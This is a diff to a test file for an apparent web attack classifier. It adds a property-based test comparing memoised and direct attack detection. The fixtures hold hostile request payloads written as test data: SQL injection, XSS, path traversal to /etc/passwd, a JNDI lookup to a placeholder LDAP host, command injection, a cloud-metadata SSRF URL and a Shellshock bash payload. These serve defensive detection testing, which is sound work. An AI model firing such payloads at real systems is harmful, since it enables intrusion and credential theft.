@@ -1,5 +1,6 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { classifyRequest } from './classify.js';
+import { classifyRequest, findAttacks, findAttacksDirect } from './classify.js';
 import { decodeLayers } from './decode.js';
 import { tagAttack } from './enricher.js';
 
@@ -80,5 +81,49 @@ describe('tagAttack', () => {
     expect(tagAttack(ev)).toBe(true);
     expect(ev).toMatchObject({ 'attack.class': 'sqli', 'attack.classes': ['sqli'] });
     expect(tagAttack({ ...ev, 'event.dataset': 'sshd', 'attack.class': undefined })).toBe(false);
+  });
+});
+
+describe('findAttacks memo', () => {
+  // Attack fragments and clean values, few enough that generated requests repeat them.
+  const piece = fc.constantFrom(
+    '/',
+    '/index.html',
+    '/static/app.js',
+    '/item?id=1%27%20or%20%271%27%3D%271',
+    '/s?q=%3Cscript%3Ealert(1)%3C/script%3E',
+    '/dl?f=../../etc/passwd',
+    '/?x=%24%7Bjndi:ldap://e.example/a%7D',
+    '/ping?host=127.0.0.1;cat /etc/passwd',
+    '/a?b=c&d=http://169.254.169.254/',
+    '/.env',
+    '-',
+    '',
+  );
+  const agent = fc.constantFrom(
+    undefined,
+    '',
+    '-',
+    'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0',
+    'sqlmap/1.8 (https://sqlmap.org)',
+    'Nikto',
+    '() { :; }; /bin/bash -c id',
+  );
+  const referrer = fc.option(
+    piece.map((p) => (p === '' || p === '-' ? p : `https://site.example${p}`)),
+    { nil: undefined },
+  );
+
+  it('finds exactly what a fresh scan of every unit finds, in the same order (property)', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.record({ url: fc.option(piece, { nil: undefined }), userAgent: agent, referrer }), {
+          maxLength: 40,
+        }),
+        (reqs) => {
+          for (const req of reqs) expect(findAttacks(req)).toEqual(findAttacksDirect(req));
+        },
+      ),
+    );
   });
 });
